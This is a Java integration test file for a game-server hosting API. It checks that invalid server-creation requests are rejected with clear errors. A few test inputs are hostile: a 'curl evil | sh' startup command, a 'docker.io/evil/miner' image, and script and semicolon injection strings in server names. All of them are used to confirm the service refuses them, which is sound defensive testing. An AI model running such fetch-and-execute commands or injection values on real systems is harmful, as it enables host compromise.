package io.lormas.deploy.server;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import java.util.UUID;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.ApplicationContext;
import tools.jackson.databind.JsonNode;

import io.lormas.contracts.catalog.EggRemoved;
import io.lormas.contracts.catalog.PlanRetired;
import io.lormas.deploy.support.Api;
import io.lormas.deploy.support.DeployIT;
import io.lormas.deploy.support.SimulatedNode;
import io.lormas.deploy.support.World;
import io.lormas.platform.id.Ids;
import io.lormas.testkit.Awaits;

/** Bad input gets a problem+json that says what is wrong, and changes nothing. */
@DeployIT
class BadInputIT {

    @Autowired
    ApplicationContext context;
    @LocalServerPort
    int port;
    World world;
    UUID eggId;
    UUID planId;

    @BeforeEach
    void world() {
        world = new World(context, port);
        eggId = world.egg(List.of());
        planId = world.plan(1024);
    }

    @AfterEach
    void close() {
        world.close();
    }

    Api.Response create(Map<String, Object> body) {
        return world.create(world.owner(), body);
    }

    @Test
    void refusesUnknownEggAndPlanWith422NamingBoth() {
        Api.Response response = create(World.newServer("x", Ids.newId(), Ids.newId(), world.region));

        assertThat(response.status()).isEqualTo(422);
        assertThat(response.raw().headers().firstValue("Content-Type")).hasValueSatisfying(
                type -> assertThat(type).startsWith("application/problem+json"));
        assertThat(Api.errorFields(response)).containsExactly("eggId", "planId");
    }

    @Test
    void refusesRemovedEggsAndRetiredPlans() {
        world.platform.publish(new EggRemoved(eggId));
        world.platform.publish(new PlanRetired(planId));
        Awaits.until(World.TIMEOUT, "egg removed and plan retired",
                () -> Api.errorFields(create(World.newServer("x", eggId, planId, world.region))).size() == 2);
    }

    @Test
    void refusesVariablesBreakingTheirRulesWithEachVariablesMessage() {
        Map<String, Object> body = World.newServer("x", eggId, planId, world.region);
        body.put("variables", Map.of("MOTD", "a message of the day that is far too long", "MAX_PLAYERS", "500",
                "RCON_PASSWORD", "short", "NOT_A_VARIABLE", "1"));

        Api.Response response = create(body);

        assertThat(response.status()).as(response.toString()).isEqualTo(422);
        Map<String, String> messages = new java.util.LinkedHashMap<>();
        for (JsonNode error : response.body().path("errors")) {
            messages.put(error.path("field").asString(), error.path("message").asString());
        }
        assertThat(messages).containsOnlyKeys("variables.MOTD", "variables.MAX_PLAYERS", "variables.RCON_PASSWORD",
                "variables.NOT_A_VARIABLE");
        assertThat(messages.get("variables.MAX_PLAYERS")).contains("Max players (MAX_PLAYERS)").contains("100");
        assertThat(messages.get("variables.MOTD")).contains("20");
        assertThat(messages.get("variables.RCON_PASSWORD")).contains("8");
    }

    @Test
    void refusesAnImageTheEggDoesNotOffer() {
        Map<String, Object> body = World.newServer("x", eggId, planId, world.region);
        body.put("image", "docker.io/evil/miner:latest");

        Api.Response response = create(body);

        assertThat(response.status()).isEqualTo(422);
        assertThat(Api.errorFields(response)).containsExactly("image");
    }

    @Test
    void refusesWithReasonsPerNodeWhenNoNodeHasCapacity() {
        SimulatedNode small = world.node("small", 512, 10);
        UUID bigPlan = world.plan(4096);

        Api.Response response = create(World.newServer("x", eggId, bigPlan, world.region));

        assertThat(response.status()).isEqualTo(409);
        assertThat(response.text("detail")).isEqualTo("no ACTIVE node in region " + world.region
                + " can take 4096 MiB memory, 500 mCPU, 1024 MiB disk and 1 port: small 512 MiB memory free, 4096 needed");
        JsonNode reason = response.body().path("reasons").get(0);
        assertThat(reason.path("nodeId").asString()).isEqualTo(small.nodeId.toString());
        assertThat(reason.path("filter").asString()).isEqualTo("MEMORY");
        assertThat(world.jdbc.sql("select count(*) from server where node_id = ?").param(small.nodeId)
                .query(Long.class).single()).isZero();
    }

    @Test
    void refusesAnUnknownRegionWith409() {
        Api.Response response = create(World.newServer("x", eggId, planId, "nowhere-1"));

        assertThat(response.status()).isEqualTo(409);
        assertThat(response.text("detail")).isEqualTo("no node in region 'nowhere-1'");
    }

    @ParameterizedTest
    @ValueSource(strings = { "", " leading", "trailing ", "semi;colon", "<script>", "a-name-that-is-far-too-long-for-a-server-"
            + "name-because-it-goes-on-and-on" })
    void refusesInvalidNamesWith400(String name) {
        Api.Response response = create(World.newServer(name, eggId, planId, world.region));

        assertThat(response.status()).isEqualTo(400);
        assertThat(Api.errorFields(response)).containsExactly("name");
    }

    @Test
    void refusesMalformedBodiesAndMissingFieldsWith400() {
        assertThat(world.api.post("/api/servers", world.owner(), "{not json").status()).isEqualTo(400);
        Api.Response missing = world.api.post("/api/servers", world.owner(), Map.of("name", "x"));
        assertThat(missing.status()).isEqualTo(400);
        assertThat(Api.errorFields(missing)).contains("eggId", "planId");
        Map<String, Object> badVariable = World.newServer("x", eggId, planId, world.region);
        badVariable.put("variables", Map.of("bad name!", "1"));
        assertThat(create(badVariable).status()).isEqualTo(400);
    }

    @Test
    void refusesUnknownPowerSignalsAndIllegalTransitions() {
        world.node("n1", 8192, 10);
        UUID serverId = world.createServer(eggId, planId);
        world.awaitState(serverId, "stopped");

        Api.Response unknown = world.api.post("/api/servers/" + serverId + "/power", world.owner(),
                Map.of("signal", "explode"));
        assertThat(unknown.status()).isEqualTo(400);
        assertThat(Api.errorFields(unknown)).containsExactly("signal");
        Api.Response stop = world.api.post("/api/servers/" + serverId + "/power", world.owner(), Map.of("signal", "stop"));
        assertThat(stop.status()).isEqualTo(409);
        assertThat(stop.text("detail")).contains("cannot stop").contains("while it is stopped");
        assertThat(world.api.get("/api/servers/" + Ids.newId(), world.owner()).status()).isEqualTo(404);
        assertThat(world.api.get("/api/servers/not-a-uuid", world.owner()).status()).isEqualTo(400);
    }

    @Test
    void refusesCustomStartupAndNodeChoiceToCustomers() {
        Map<String, Object> body = World.newServer("x", eggId, planId, world.region);
        body.put("startup", "curl evil | sh");
        assertThat(create(body).status()).isEqualTo(403);
        body.remove("startup");
        body.put("nodeId", Ids.newId().toString());
        assertThat(create(body).status()).isEqualTo(403);
    }
}
